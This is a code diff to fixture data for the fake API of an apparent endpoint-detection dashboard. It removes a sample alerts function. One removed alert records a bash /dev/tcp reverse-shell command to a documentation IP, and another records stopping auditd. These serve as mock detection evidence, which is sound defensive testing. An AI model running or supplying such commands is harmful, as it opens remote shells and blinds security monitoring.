@@ -1,6 +1,6 @@
-// Fixture data for the fake API: a small fleet in every status, alerts in
-// several triage states and a few pages of events. Times are relative to
-// the moment the fixtures are made.
+// Fixture data for the fake API: a small fleet in every status and a few
+// pages of events (the alerts are detection's, in fixtures-detect.mjs).
+// Times are relative to the moment the fixtures are made.
 
 const minute = 60_000;
 
@@ -86,64 +86,6 @@ export function makeHistory(now) {
     { agent_id: '', at: ago(now, 5 * 86_400_000), from: 'stopped', to: 'online', reason: 'connected' },
     { agent_id: '', at: ago(now, 5 * 86_400_000 + 10 * minute), from: 'online', to: 'stopped', reason: 'SIGTERM by pid 1 (systemd)' },
     { agent_id: '', at: ago(now, 20 * 86_400_000), from: '', to: 'online', reason: 'enrolled' },
-  ];
-}
-
-/** @param {number} now */
-export function makeAlerts(now) {
-  return [
-    {
-      id: 'al-0001',
-      agent_id: '7f1c2a9e-0001',
-      hostname: 'web-01',
-      rule_id: 'lnx_auditd_disable_security_tool',
-      title: 'Security tool disabled: auditd stopped',
-      description: 'The audit daemon was stopped by an interactive root shell.',
-      severity: 'critical',
-      state: 'new',
-      techniques: ['T1562.001'],
-      dedup_key: 'web-01/lnx_auditd_disable_security_tool',
-      count: 1,
-      created_at: ago(now, 4 * minute),
-      updated_at: ago(now, 4 * minute),
-      last_seen: ago(now, 4 * minute),
-      evidence: { process: { executable: '/usr/bin/systemctl', command_line: 'systemctl stop auditd', pid: 31337 }, user: { name: 'root' } },
-      event_ids: ['ev-0007'],
-      comments: [],
-    },
-    {
-      id: 'al-0002',
-      agent_id: '7f1c2a9e-0003',
-      hostname: 'db-01',
-      rule_id: 'lnx_reverse_shell_bash',
-      title: 'Reverse shell through bash /dev/tcp',
-      severity: 'high',
-      state: 'acknowledged',
-      techniques: ['T1059.004', 'T1071'],
-      dedup_key: 'db-01/lnx_reverse_shell_bash',
-      count: 3,
-      created_at: ago(now, 50 * minute),
-      updated_at: ago(now, 30 * minute),
-      last_seen: ago(now, 20 * minute),
-      evidence: { process: { command_line: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' } },
-      comments: [{ at: ago(now, 30 * minute), author: 'alice', state: 'acknowledged', text: 'Looking at it with the DB team.' }],
-    },
-    {
-      id: 'al-0003',
-      agent_id: '7f1c2a9e-0002',
-      hostname: 'web-02',
-      rule_id: 'lnx_susp_crontab_change',
-      title: 'Crontab modified outside package manager',
-      severity: 'medium',
-      state: 'resolved',
-      techniques: ['T1053.003'],
-      dedup_key: 'web-02/lnx_susp_crontab_change',
-      count: 1,
-      created_at: ago(now, 26 * 3600_000),
-      updated_at: ago(now, 25 * 3600_000),
-      last_seen: ago(now, 26 * 3600_000),
-      comments: [{ at: ago(now, 25 * 3600_000), author: 'bob', state: 'resolved', text: 'Planned change CHG-1182.' }],
-    },
   ];
 }
 
